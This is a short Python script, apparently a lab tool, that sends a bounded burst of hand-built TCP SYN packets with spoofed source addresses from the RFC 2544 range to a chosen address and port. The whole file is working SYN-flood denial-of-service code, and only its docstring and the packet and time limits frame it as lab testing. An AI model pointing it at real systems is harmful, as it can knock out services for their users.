#!/usr/bin/env python3
"""Bounded SYN flood for the uvs lab: COUNT TCP SYNs to VIP:PORT from
random sources inside 198.18.128.0/17 (RFC 2544 space, routed nowhere,
so nobody answers them). Stops after COUNT packets or SECONDS."""
import random
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02,
                      65535, 0, 0)
    pseudo = struct.pack("!4s4sBBH", src, dst, 0, socket.IPPROTO_TCP,
                         len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64,
                     socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def main():
    if len(sys.argv) != 5:
        sys.exit("usage: synflood.py VIP PORT COUNT SECONDS")
    vip, port = sys.argv[1], int(sys.argv[2])
    count, seconds = int(sys.argv[3]), float(sys.argv[4])
    dst = socket.inet_aton(vip)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    rnd = random.Random(2544)
    end = time.monotonic() + seconds
    sent = 0
    while sent < count and time.monotonic() < end:
        src = struct.pack("!BBBB", 198, 18, 128 + rnd.randrange(128),
                          rnd.randrange(1, 255))
        s.sendto(syn(src, dst, rnd.randrange(1024, 65535), port,
                     rnd.getrandbits(32)), (vip, 0))
        sent += 1
    print("sent %d SYNs" % sent)


main()
